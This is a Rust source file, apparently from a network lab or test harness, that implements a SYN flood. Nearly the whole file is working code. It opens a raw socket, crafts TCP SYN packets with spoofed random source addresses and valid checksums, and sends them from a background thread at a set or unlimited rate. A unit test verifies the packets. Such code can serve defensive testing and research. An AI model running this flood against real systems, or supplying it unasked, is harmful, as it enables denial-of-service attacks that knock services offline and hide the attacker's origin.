use std::hash::{BuildHasher, Hasher, RandomState};
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use super::{Host, LabError};

/// SYNs from forged sources, sent by a thread of their own until this is dropped.
#[derive(Debug)]
pub struct Flood {
    shared: Arc<Shared>,
    started: Instant,
    thread: Option<JoinHandle<io::Result<()>>>,
}

#[derive(Debug, Default)]
struct Shared {
    over: AtomicBool,
    sent: AtomicU64,
}

/// Sent without a look at the clock.
const AT_ONCE: u64 = 16;
/// How long to wait when too many have been sent.
const PAUSE: Duration = Duration::from_micros(200);

impl Host {
    /// Starts a flood from this host at that address and port: so many SYNs a second, or as many
    /// as can be sent. Each comes from another address in 11.0.0.0 to 99.255.255.255; what is
    /// answered goes nowhere if there is no way there.
    pub fn flood(&self, target: SocketAddrV4, rate: Option<u32>) -> Result<Flood, LabError> {
        let socket = self.with("make a raw socket", "for a flood", || {
            let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))?;
            socket.set_header_included_v4(true)?;
            // Nobody reads what comes back.
            socket
                .shutdown(std::net::Shutdown::Read)
                .or(Ok::<(), io::Error>(()))?;
            socket.set_recv_buffer_size(1)?;
            Ok(socket)
        })?;
        let shared = Arc::new(Shared::default());
        let its = Arc::clone(&shared);
        let thread = thread::Builder::new()
            .name("flood".to_owned())
            .spawn(move || send(&socket, target, rate, &its))
            .map_err(LabError::system("start", "a flood"))?;
        Ok(Flood {
            shared,
            started: Instant::now(),
            thread: Some(thread),
        })
    }
}

impl Flood {
    /// How many were sent up to now.
    pub fn sent(&self) -> u64 {
        self.shared.sent.load(Ordering::Relaxed)
    }

    /// Ends it: how many were sent, and how many a second.
    pub fn stop(mut self) -> Result<(u64, f64), LabError> {
        self.shared.over.store(true, Ordering::Relaxed);
        let took = self.started.elapsed().as_secs_f64();
        if let Some(thread) = self.thread.take() {
            thread
                .join()
                .unwrap_or_else(|panic| std::panic::resume_unwind(panic))
                .map_err(LabError::system("send", "a flood"))?;
        }
        let sent = self.sent();
        #[allow(clippy::cast_precision_loss)]
        let rate = sent as f64 / took;
        Ok((sent, rate))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.shared.over.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // An error is for whoever calls `stop`.
            drop(thread.join());
        }
    }
}

fn send(
    socket: &Socket,
    target: SocketAddrV4,
    rate: Option<u32>,
    shared: &Shared,
) -> io::Result<()> {
    let to = SocketAddrV4::new(*target.ip(), 0).into();
    let mut random = Random::new();
    let started = Instant::now();
    let mut sent = 0;
    while !shared.over.load(Ordering::Relaxed) {
        let mut now = AT_ONCE;
        if let Some(rate) = rate {
            let micros = u64::try_from(started.elapsed().as_micros()).unwrap_or(u64::MAX);
            let due = micros.saturating_mul(rate.into()) / 1_000_000;
            now = due.saturating_sub(sent).min(AT_ONCE);
            if now == 0 {
                thread::sleep(PAUSE);
            }
        }
        for _ in 0..now {
            match socket.send_to(&syn(&mut random, target), &to) {
                Ok(_) => {}
                // It did not fit into a queue: what is lost is lost.
                Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => {}
                Err(error) => return Err(error),
            }
        }
        sent += now;
        shared.sent.store(sent, Ordering::Relaxed);
    }
    Ok(())
}

/// xorshift64 (Marsaglia, 2003): sources need not be hard to guess.
struct Random(u64);

impl Random {
    /// Another flood comes from others.
    fn new() -> Self {
        // Keys are random; 0 would stay 0.
        Self(RandomState::new().build_hasher().finish() | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// RFC 791 and RFC 9293, without options. The kernel fills in the IP header's length, number and
/// checksum (`raw(7)`).
fn syn(random: &mut Random, target: SocketAddrV4) -> [u8; 40] {
    let random = random.next().to_ne_bytes();
    let (address, rest) = random.split_at(4);
    let source = Ipv4Addr::new(11 + address[0] % 89, address[1], address[2], address[3]);
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[8] = 64; // TTL
    packet[9] = 6; // TCP
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    packet[20..22].copy_from_slice(&[rest[0] | 4, rest[1]]); // from port 1024 on
    packet[22..24].copy_from_slice(&target.port().to_be_bytes());
    packet[24..28].copy_from_slice(rest); // the sequence number
    packet[32] = 5 << 4; // header length in words
    packet[33] = 2; // SYN
    packet[34..36].copy_from_slice(&64_240_u16.to_be_bytes()); // window
    let checksum = !sum(&packet[12..]);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// The sum of RFC 1071 over addresses and TCP header, with the pseudo-header's protocol and length.
fn sum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2);
    let total = words.fold(6 + 20, |total: u32, word| {
        total + u32::from(u16::from_be_bytes([word[0], word[1]]))
    });
    let folded = (total & 0xffff) + (total >> 16);
    // Twice is enough: the first left at most one carry.
    u16::try_from((folded & 0xffff) + (folded >> 16)).unwrap_or(u16::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_adds_up_and_comes_from_somewhere_else_each_time() {
        let mut random = Random(1);
        let target = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 1), 1228);
        let packets: Vec<_> = (0..100).map(|_| syn(&mut random, target)).collect();
        for packet in &packets {
            assert_eq!(sum(&packet[12..]), 0xffff);
            assert!((11..=99).contains(&packet[12]));
        }
        let mut sources: Vec<_> = packets.iter().map(|p| &p[12..16]).collect();
        sources.sort_unstable();
        sources.dedup();
        assert_eq!(sources.len(), 100);
    }
}
